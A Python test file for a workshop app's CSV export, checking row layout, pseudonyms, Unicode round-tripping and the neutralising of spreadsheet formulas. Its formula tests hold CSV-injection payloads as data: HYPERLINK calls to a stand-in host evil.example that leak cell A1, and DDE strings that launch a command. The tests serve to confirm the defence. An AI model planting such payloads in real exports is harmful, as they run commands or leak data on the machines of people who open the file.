"""CSV export: tidy (one row per answer), formula-safe, Excel-friendly, and it round-trips
through pandas with accents, emoji and line breaks intact."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pandas as pd
import pytest

from tests.support.builders import make_session, make_template
from workshop import services
from workshop.activities import make_spec
from workshop.domain.codes import display_code, new_participant_token
from workshop.export import COLUMNS, iso_utc, neutralise, session_csv_filename

ISSUE_COLUMNS = [
    "session_code",
    "session_title",
    "session_started_at",
    "prompt_number",
    "prompt_kind",
    "prompt_text",
    "participant",
    "answer",
    "answered_at",
]


def read_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)


class Room:
    """A session driven through the real services: the facilitator and a few phones."""

    def __init__(self, db, secret: bytes, template=None) -> None:
        self.db, self.secret = db, secret
        self.started = make_session(db, template)
        self.sid = self.started.session.id
        self.prompts = services.list_prompts(db=db, session_id=self.sid)

    def answer(self, position: int, raw: object, token: str):
        services.go_to_prompt(
            db=self.db, session_id=self.sid, key=self.started.facilitator_key, position=position
        )
        return services.submit_answer(
            db=self.db,
            secret=self.secret,
            session_id=self.sid,
            prompt_id=self.prompts[position].id,
            token=token,
            raw=raw,
        )

    def csv(self) -> bytes:
        return services.export_csv(db=self.db, session_id=self.sid)


# ---- neutralising formulas (unit) -----------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example","click")',
        "=cmd|' /C calc'!A0",
        "+1+2",
        "-1+2",
        "-cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "=",
        "@",
    ],
)
def test_formula_cells_get_a_leading_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "plain",
        "1+1",
        " =1+1",
        "'=1",
        "P001",
        "2026-01-01T10:00:00Z",
        "-2",
        "+3",
        "4.5",
        "-0.5",
        "a=b",
        "E=mc²",
    ],
)
def test_other_cells_are_left_alone(cell):
    assert neutralise(cell) == cell


def test_iso_utc_is_iso_8601_with_z():
    moment = datetime(2026, 5, 4, 12, 30, 5, 123456, tzinfo=UTC)
    assert iso_utc(moment) == "2026-05-04T12:30:05Z"
    assert datetime.fromisoformat(iso_utc(moment)) == moment.replace(microsecond=0)


# ---- the whole file, through the services on both backends ---------------------------


def test_columns_bom_and_one_row_per_answer(db, secret):
    room = Room(db, secret)
    tokens = [new_participant_token(secret) for _ in range(3)]
    room.answer(0, "A", tokens[0])
    room.answer(0, "B", tokens[1])
    room.answer(1, ["Z", "X"], tokens[0])
    room.answer(2, 4, tokens[2])
    room.answer(3, "hello", tokens[1])
    room.answer(4, "trust, big picture", tokens[2])
    data = room.csv()

    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel then reads accents and emoji
    assert data.count(b"\xef\xbb\xbf") == 1
    header = data[3:].split(b"\r\n", 1)[0].decode()
    assert header.split(",")[: len(ISSUE_COLUMNS)] == ISSUE_COLUMNS
    assert header.split(",") == COLUMNS

    frame = read_back(data)
    assert len(frame) == 6  # one row per answer
    assert frame["session_code"].unique().tolist() == [display_code(room.started.session.code)]
    assert frame["session_title"].unique().tolist() == ["Test session"]
    assert frame["prompt_number"].tolist() == ["1", "1", "2", "3", "4", "5"]
    assert frame["prompt_kind"].tolist() == [
        "single_choice",
        "single_choice",
        "multiple_choice",
        "scale",
        "open_text",
        "word_cloud",
    ]
    assert frame["prompt_text"].tolist()[2] == "Pick some"
    # multiple choice and word cloud: one row, selections joined with "; " (template order)
    assert frame["answer"].tolist() == ["A", "B", "X; Z", "4", "hello", "trust; big picture"]
    assert frame["hidden"].unique().tolist() == ["no"]
    started_at = datetime.fromisoformat(frame["session_started_at"][0])
    assert started_at.tzinfo is not None and started_at.utcoffset().total_seconds() == 0
    for stamp in frame["answered_at"]:
        assert stamp.endswith("Z")
        assert datetime.fromisoformat(stamp) >= started_at


def test_pseudonyms_are_stable_within_a_session_and_restart_in_the_next(db, secret):
    room = Room(db, secret)
    alice, bob, carol = (new_participant_token(secret) for _ in range(3))
    room.answer(0, "A", bob)  # bob joins first: P001
    room.answer(0, "B", alice)  # P002
    room.answer(0, "C", carol)  # P003
    room.answer(2, 1, alice)
    room.answer(2, 5, bob)
    frame = read_back(room.csv())
    rows = list(zip(frame["prompt_number"], frame["participant"], frame["answer"], strict=True))
    assert rows == [
        ("1", "P001", "A"),
        ("1", "P002", "B"),
        ("1", "P003", "C"),
        ("3", "P001", "5"),
        ("3", "P002", "1"),
    ]
    # exported twice: the same pseudonyms
    assert read_back(room.csv())["participant"].tolist() == frame["participant"].tolist()
    # a new session starts again at P001, even for the same browser
    other = Room(db, secret)
    other.answer(0, "A", alice)
    assert read_back(other.csv())["participant"].tolist() == ["P001"]


def test_formula_answers_and_titles_are_neutralised(db, secret):
    template = make_template(
        make_spec("open_text", text="=1+2 says the prompt", max_length=200),
        make_spec("scale", text="Signed", scale_min=-3, scale_max=3),
        make_spec("word_cloud", text="Words", max_words=3, max_entries=3),
        title="@Workshop =SUM(A1)",
    )
    room = Room(db, secret, template)
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
        "=cmd|' /C calc'!A0",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",  # tab and CR arrive as spaces and are trimmed by clean_text
        "\r\n=1+1",
    ]
    for text in hostile:
        room.answer(0, text, new_participant_token(secret))
    room.answer(1, -2, new_participant_token(secret))
    room.answer(2, ["=1+1", "calm"], new_participant_token(secret))
    frame = read_back(room.csv())

    assert frame["session_title"].unique().tolist() == ["'@Workshop =SUM(A1)"]
    assert frame["prompt_text"][0] == "'=1+2 says the prompt"
    texts = frame.loc[frame["prompt_number"] == "1", "answer"].tolist()
    assert sorted(texts) == sorted(["'" + t.strip() for t in hostile])
    # no cell of the file starts a formula
    for cell in frame.to_numpy().ravel():
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell == "-2", cell
    # a plain negative number stays a number
    assert frame.loc[frame["prompt_number"] == "2", "answer"].tolist() == ["-2"]
    assert frame.loc[frame["prompt_number"] == "3", "answer"].tolist() == ["'=1+1; calm"]


def test_accents_emoji_quotes_and_line_breaks_round_trip(db, secret):
    title = "Atelier Ça marche — Ünïcödé 👨\u200d👩\u200d👧 東京"
    template = make_template(
        make_spec("open_text", text="Ton avis ? 🤔", max_length=500),
        make_spec(
            "multiple_choice",
            text="Choisis",
            options=("Café ☕", "Thé, vert", 'Eau "plate"'),
        ),
        title=title,
    )
    room = Room(db, secret, template)
    texts = [
        "Première ligne\nDeuxième ligne 👍🏽\n\nFin",
        'Quotes "inside", commas, and; semicolons',
        "🏳️\u200d🌈 مرحبا שלום",
    ]
    for text in texts:
        room.answer(0, text, new_participant_token(secret))
    room.answer(1, ['Eau "plate"', "Café ☕", "Thé, vert"], new_participant_token(secret))
    data = room.csv()
    frame = read_back(data)

    assert frame["session_title"].unique().tolist() == [title]
    assert frame["prompt_text"].unique().tolist() == ["Ton avis ? 🤔", "Choisis"]
    assert sorted(frame["answer"].tolist()[:3]) == sorted(texts)
    assert frame["answer"].tolist()[3] == 'Café ☕; Thé, vert; Eau "plate"'
    # the stdlib csv reader agrees (what Excel and LibreOffice do is close to it)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == COLUMNS and len(rows) == 5
    assert sorted(r[7] for r in rows[1:4]) == sorted(texts)


def test_hidden_answers_are_exported_flagged(db, secret):
    room = Room(db, secret)
    kept = room.answer(0, "A", new_participant_token(secret))
    hidden = room.answer(0, "B", new_participant_token(secret))
    services.hide_answer(
        db=db, session_id=room.sid, key=room.started.facilitator_key, answer_id=hidden.id
    )
    frame = read_back(room.csv())
    assert dict(zip(frame["answer"], frame["hidden"], strict=True)) == {"A": "no", "B": "yes"}
    assert kept.id != hidden.id


def test_a_session_without_answers_exports_the_header_only(db, secret):
    room = Room(db, secret)
    data = room.csv()
    assert data == ("\ufeff" + ",".join(COLUMNS) + "\r\n").encode()
    assert read_back(data).empty


def test_file_name_names_the_session(db, secret):
    room = Room(db, secret)
    session = services.get_session(db=db, session_id=room.sid)
    name = session_csv_filename(session)
    assert name.startswith(f"workshop-{session.code}-") and name.endswith(".csv")
